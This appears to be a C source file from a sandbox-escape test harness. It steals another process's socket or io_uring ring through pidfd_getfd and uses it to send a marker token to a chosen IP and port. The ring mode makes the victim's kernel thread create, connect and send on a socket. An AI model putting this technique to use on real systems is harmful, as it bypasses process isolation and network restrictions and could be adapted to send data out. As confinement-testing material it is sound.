/* SPDX-License-Identifier: Apache-2.0 */
/* What belongs to a process outside is taken by pidfd_getfd: `steal socket TOKEN PID FD`,
 * `steal named TOKEN PID FD IP PORT`, `steal ring TOKEN PID FD IP PORT`. */
#include <linux/io_uring.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include "escape.h"

#define SLOTS 8 /* entries of the ring; see ringhost.c */

static int take(char **arguments)
{
	int pid = atoi(need(arguments, 0)), number = atoi(need(arguments, 1));
	int process = (int)must(syscall(SYS_pidfd_open, pid, 0), "pidfd_open");

	return (int)must(syscall(SYS_pidfd_getfd, process, number, 0), "pidfd_getfd");
}

/* A socket that its owner has connected. */
static void connected(const char *token, char **arguments)
{
	int fd = take(arguments);

	say_go();
	must(send(fd, token, strlen(token), MSG_NOSIGNAL), "send");
}

/* A socket that its owner has not connected. */
static void named(const char *token, char **arguments)
{
	union endpoint to;
	socklen_t len = endpoint_at(arguments, 2, &to);
	int fd = take(arguments);

	say_go();
	must(sendto(fd, token, strlen(token), 0, &to.any, len), "sendto");
}

static unsigned char *map(int ring, size_t size, off_t what)
{
	void *at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring, what);

	if (at == MAP_FAILED)
		err(1, "mmap of the ring");
	return at;
}

/* Where the owner of the ring has its entries in memory: addresses in a request are its own. */
static uint64_t entries_of(const char *pid)
{
	char path[64], line[512];
	unsigned long start, offset;
	FILE *maps;

	snprintf(path, sizeof(path), "/proc/%s/maps", pid);
	maps = fopen(path, "r");
	if (!maps)
		err(1, "%s", path);
	while (fgets(line, sizeof(line), maps))
		if (strstr(line, "io_uring") &&
		    sscanf(line, "%lx-%*x %*s %lx", &start, &offset) == 2 &&
		    offset == IORING_OFF_SQES) {
			fclose(maps);
			return start;
		}
	errx(1, "no ring in %s", path);
}

static struct io_uring_params layout(void)
{
	struct io_uring_params p = {.flags = IORING_SETUP_SQPOLL};

	close((int)must(syscall(SYS_io_uring_setup, SLOTS, &p), "io_uring_setup"));
	return p;
}

/* Its owner's kernel thread makes a socket, connects it and sends, all in the ring's own table. */
static void ring(const char *token, char **arguments)
{
	struct io_uring_params p = layout();
	uint64_t theirs = entries_of(need(arguments, 0));
	int fd = take(arguments);
	unsigned char *queue =
	    map(fd, p.sq_off.array + SLOTS * sizeof(uint32_t), IORING_OFF_SQ_RING);
	struct io_uring_sqe *sqes = (void *)map(fd, SLOTS * sizeof(*sqes), IORING_OFF_SQES);
	union endpoint to;
	socklen_t len = endpoint_at(arguments, 2, &to);

	memcpy(&sqes[SLOTS - 1], &to, sizeof(to));
	memcpy(&sqes[SLOTS - 2], token, strlen(token));
	sqes[0] = (struct io_uring_sqe){.opcode = IORING_OP_SOCKET,
					.flags = IOSQE_IO_LINK,
					.fd = to.any.sa_family,
					.off = SOCK_STREAM,
					.file_index = 1};
	sqes[1] = (struct io_uring_sqe){.opcode = IORING_OP_CONNECT,
					.flags = IOSQE_IO_LINK | IOSQE_FIXED_FILE,
					.addr = theirs + (SLOTS - 1) * sizeof(*sqes),
					.off = len};
	sqes[2] = (struct io_uring_sqe){.opcode = IORING_OP_SEND,
					.flags = IOSQE_FIXED_FILE,
					.addr = theirs + (SLOTS - 2) * sizeof(*sqes),
					.len = (uint32_t)strlen(token)};
	for (uint32_t i = 0; i < 3; i++)
		((uint32_t *)(queue + p.sq_off.array))[i] = i;
	say_go();
	__atomic_store_n((uint32_t *)(queue + p.sq_off.tail), 3, __ATOMIC_SEQ_CST);
	must(syscall(SYS_io_uring_enter, fd, 3, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0),
	     "io_uring_enter");
}

static const struct way WAYS[] = {{"socket", connected}, {"named", named}, {"ring", ring}};

ESCAPE_MAIN(WAYS)
